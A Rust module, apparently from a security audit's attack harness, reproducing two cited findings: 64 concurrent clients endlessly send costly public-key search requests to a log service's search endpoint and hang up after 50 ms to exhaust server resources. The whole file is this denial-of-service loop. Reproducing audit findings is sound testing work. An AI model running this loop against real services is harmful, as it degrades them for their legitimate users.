//! Searches that are long, by clients that hang up soon (findings B5, B13).

use std::time::Duration;

use futures::future::join_all;
use serde_json::json;
use tokio::time::sleep;

use crate::attacks::ground::Ground;
use crate::clients::v1;

/// How many clients search at a time, and how long each waits.
const CLIENTS: usize = 64;
const PATIENCE: Duration = Duration::from_millis(50);

/// Searches for the entries of the one who has most.
pub(crate) async fn run(ground: Ground) {
    let key = ground.signer.public_key_base64();
    let query = json!({ "publicKey": { "format": "x509", "content": key } }).to_string();
    let line = format!("content-length: {}", query.len());
    let request = ground.caller.head("POST", v1::SEARCH, &line) + &query;
    join_all((0..CLIENTS).map(|_| search(&ground, request.as_bytes()))).await;
}

async fn search(ground: &Ground, request: &[u8]) {
    loop {
        let stream = ground.begin(request).await;
        sleep(PATIENCE).await;
        drop(stream);
    }
}
